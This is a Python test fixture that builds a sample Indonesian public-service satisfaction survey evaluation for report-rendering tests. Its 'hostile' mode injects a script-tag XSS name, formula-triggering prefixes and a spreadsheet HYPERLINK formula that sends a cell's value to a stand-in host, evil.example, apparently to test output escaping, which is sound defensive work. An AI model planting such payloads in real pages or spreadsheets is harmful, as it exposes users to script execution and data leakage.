"""A small evaluation for the report tests, built through ``publiceval.evaluate`` as a user would.

It has what every report section needs: a cut-offs scheme with two compared schemes, the
lowest-k rule, survey-wide items on a 4- and a 5-point scale, a shared rank, an OPD too small
for a confidence interval, and rejected rows. ``hostile=True`` swaps in names and texts that
try to run in a browser or a spreadsheet.
"""

from __future__ import annotations

from functools import cache

import numpy as np

import publiceval as pe
from publiceval import OPD, Evaluation, Item, Scale, ScaleLabel, Survey, Text
from publiceval._core.results import OPDUncertainty
from publiceval.plugin import get_host

SCRIPT_NAME = "<script>alert(1)</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"klik")'


def _scale(scale_id: str, names: list[tuple[str, str]]) -> Scale:
    return Scale(
        id=scale_id,
        min=1,
        max=len(names),
        labels=tuple(
            ScaleLabel(value=k + 1, label=Text(id=a, en=b)) for k, (a, b) in enumerate(names)
        ),
    )


CUTOFFS = {
    "bands": [
        {"code": "TB", "label": {"id": "Tidak Baik", "en": "Not good"}},
        {"code": "KB", "label": {"id": "Kurang Baik", "en": "Fair"}, "low": 2.5},
        {"code": "B", "label": {"id": "Baik", "en": "Good"}, "low": 3.0},
    ],
    "precision": 2,
}

#: Answer profiles per OPD: the mean each item is drawn around (q1..q4).
PROFILES = {
    "dinkes": (3.6, 3.3, 3.1, 3.4),
    "dukcapil": (3.2, 2.6, 3.0, 3.1),
    "dishub": (2.8, 2.4, 2.9, 2.6),
    "pupr": (2.5, 2.2, 2.6, 2.3),
}


def make_survey(*, hostile: bool = False) -> Survey:
    quality = _scale(
        "quality",
        [
            ("Tidak Baik", "Poor"),
            ("Kurang Baik", "Fair"),
            ("Baik", "Good"),
            ("Sangat Baik", "Very good"),
        ],
    )
    satisfaction = _scale(
        "satisfaction",
        [
            ("Tidak Puas", "Not satisfied"),
            ("Kurang Puas", "Rather unsatisfied"),
            ("Puas", "Satisfied"),
            ("Sangat Puas", "Very satisfied"),
        ],
    )
    agreement = _scale(
        "agreement",
        [
            ("Sangat Tidak Setuju", "Strongly disagree"),
            ("Tidak Setuju", "Disagree"),
            ("Netral", "Neutral"),
            ("Setuju", "Agree"),
            ("Sangat Setuju", "Strongly agree"),
        ],
    )
    q4_text = Text(id=HYPERLINK, en=HYPERLINK) if hostile else Text(id="Biaya/tarif", en="Cost")
    return Survey(
        title="@SUM(1+1) Survei Kepuasan"
        if hostile
        else "Survei Kepuasan Masyarakat Kota Uji 2025",
        city="+62 Kota Uji" if hostile else "Kota Uji",
        organisation="-Lembaga Uji" if hostile else "Lembaga Survei Uji",
        period_start="2025-06-12",
        period_end="2025-06-16",
        scales=(quality, satisfaction, agreement),
        items=(
            Item(
                id="q1",
                text=Text(id="Persyaratan", en="Requirements"),
                scale="quality",
                element="Persyaratan",
            ),
            Item(
                id="q2",
                text=Text(id="Waktu penyelesaian", en="Time to complete"),
                scale="quality",
                element="Waktu",
            ),
            Item(
                id="q3",
                text=Text(id="Perilaku petugas", en="Staff conduct"),
                scale="quality",
                element="Perilaku",
            ),
            Item(id="q4", text=q4_text, scale="quality", element="Biaya"),
            Item(
                id="mayor",
                text=Text(id="Kepuasan terhadap wali kota", en="Satisfaction with the mayor"),
                scale="satisfaction",
                scope="survey",
            ),
            Item(
                id="fair",
                text=Text(
                    id="Program 100 hari tolok ukur yang adil",
                    en="The 100-day programme is a fair yardstick",
                ),
                scale="agreement",
                scope="survey",
            ),
        ),
        opds=(
            OPD(id="dinkes", name="Dinas Kesehatan", short_name="Dinkes"),
            OPD(
                id="dukcapil",
                name="Dinas Kependudukan dan Pencatatan Sipil",
                short_name="Disdukcapil",
            ),
            OPD(
                id="dishub",
                name=SCRIPT_NAME if hostile else "Dinas Perhubungan",
                short_name=None if hostile else "Dishub",
            ),
            OPD(id="pupr", name="Dinas Pekerjaan Umum dan Penataan Ruang", short_name="PUPR"),
            OPD(id="satpol", name="Satuan Polisi Pamong Praja", short_name="Satpol PP"),
            OPD(id="kecil", name="Kecamatan Kecil", short_name="Kec. Kecil"),
        ),
    )


def make_rows(
    *, hostile: bool = False, per_opd: int = 12, seed: int = 7
) -> list[dict[str, object]]:
    """Answers drawn around each OPD's profile; Satpol PP repeats Dishub's answers (a tie)."""
    rng = np.random.default_rng(seed)
    rows: list[dict[str, object]] = []
    k = 0
    for opd, means in PROFILES.items():
        for _ in range(per_opd):
            k += 1
            answers = {
                f"q{j + 1}": int(np.clip(np.rint(rng.normal(mu, 0.7)), 1, 4))
                for j, mu in enumerate(means)
            }
            row: dict[str, object] = {"respondent": f"r{k}", "opd": opd, **answers}
            row["mayor"] = int(np.clip(np.rint(rng.normal(2.0, 0.8)), 1, 4))
            row["fair"] = int(np.clip(np.rint(rng.normal(2.6, 1.0)), 1, 5))
            rows.append(row)
            if opd == "dishub":
                k += 1
                rows.append(
                    {**row, "respondent": f"r{k}", "opd": "satpol", "mayor": None, "fair": None}
                )
    rows.append({"respondent": "r900", "opd": "kecil", "q1": 3, "q2": 2, "q3": 3, "q4": 3})
    # rows that must be rejected
    rows.append({"respondent": "r901", "opd": "tidak-ada", "q1": 3, "q2": 3, "q3": 3, "q4": 3})
    rows.append({"respondent": "r902", "opd": "dinkes", "q1": 9, "q2": 3, "q3": 3, "q4": 3})
    rows.append(
        {
            "respondent": "r903",
            "opd": "dukcapil",
            "q1": HYPERLINK if hostile else "lumayan",
            "q2": 3,
            "q3": 3,
            "q4": 3,
        }
    )
    return rows


def make_evaluation(*, hostile: bool = False) -> Evaluation:
    survey = make_survey(hostile=hostile)
    table = pe.ResponseTable.from_rows(survey, make_rows(hostile=hostile), source="jawaban.csv")
    return pe.evaluate(
        survey,
        table,
        scheme=("cutoffs", CUTOFFS),
        compare=["likert-interval", "permenpan-2017"],
        rules=[("lowest-k", {"k": 2})],
        rank_precision=2,
    )


def with_uncertainty(ev: Evaluation) -> Evaluation:
    """The evaluation with the uncertainty fields the statistics add (values made up for layout)."""
    opds = []
    for k, r in enumerate(ev.opds):
        if r.score.ci is None:
            opds.append(r)
            continue
        opds.append(
            r.model_copy(
                update={
                    "uncertainty": OPDUncertainty.model_validate(
                        {
                            "rank_interval": {
                                "low": max(1, k),
                                "high": k + 2,
                                "level": 0.95,
                                "method": "bootstrap",
                            },
                            "category_probabilities": {"B": 0.7 - 0.1 * k, "KB": 0.3 + 0.1 * k},
                            "tier": 1 + k // 2,
                            "adequacy": {
                                "adequate": False,
                                "n": r.score.n,
                                "required": 30.0,
                                "criterion": "min-n 30",
                            },
                        }
                    )
                }
            )
        )
    return ev.model_copy(update={"opds": opds})


def make_published() -> Evaluation:
    """Published OPD scores only (no respondents): no CI, no items, like the Serang article."""
    survey = make_survey()
    published = pe.PublishedScores(
        survey=survey,
        scores=tuple(
            pe.PublishedScore(opd=o, value=v)
            for o, v in (
                ("dinkes", 3.07),
                ("dukcapil", 3.03),
                ("dishub", 2.5),
                ("pupr", 2.81),
                ("satpol", 2.5),
                ("kecil", 2.93),
            )
        ),
        low=1,
        high=4,
        unit="mean 1-4",
        source="berita 2025-06-20",
    )
    return pe.evaluate(
        survey, published, scheme=("cutoffs", CUTOFFS), compare=["permenpan-2017"], rank_precision=2
    )


@cache
def evaluation(kind: str = "plain") -> Evaluation:
    """Evaluations shared by the report tests (built once per test session)."""
    if kind == "plain":
        return make_evaluation()
    if kind == "hostile":
        return make_evaluation(hostile=True)
    if kind == "uncertainty":
        return with_uncertainty(make_evaluation())
    if kind == "bare":  # as an evaluation made before the statistics added uncertainty
        ev = make_evaluation()
        return ev.model_copy(
            update={
                "opds": [r.model_copy(update={"uncertainty": OPDUncertainty()}) for r in ev.opds]
            }
        )
    if kind == "published":
        return make_published()
    raise ValueError(kind)


@cache
def rendered(fmt: str, lang: str = "id", kind: str = "plain") -> bytes:
    """A report rendered once per test session: rendering HTML draws charts and takes a second."""
    reporter = get_host().reporter(fmt).create()
    return reporter.render(evaluation(kind), lang=lang)  # type: ignore[arg-type]
